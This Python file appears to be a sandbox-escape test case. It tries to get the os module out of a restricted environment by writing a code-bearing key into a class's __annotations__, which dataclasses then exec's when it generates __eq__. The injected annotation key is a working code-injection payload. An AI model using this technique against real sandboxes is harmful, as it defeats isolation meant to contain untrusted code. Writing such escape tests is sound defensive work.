# technique: a class body writes a non-identifier key into its own __annotations__ before @dataclass: the key becomes field code in the exec'd __eq__ (globals of __module__ = 'json')
# source: dataclasses code generation (exec of field names from __annotations__)

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses


def via():
    class D:
        __module__ = 'json'
        __doc__ = 'd'
        a = 1
        b: int = 0
        __annotations__['a,self.' + dn('dict') + '.update(m=' + dn('import') + '("os"))'] = int
    D = dataclasses.dataclass(init=False, repr=False)(D)
    d = D()
    d == D()
    return d.m

attempt('class-body __annotations__ code injection', via)
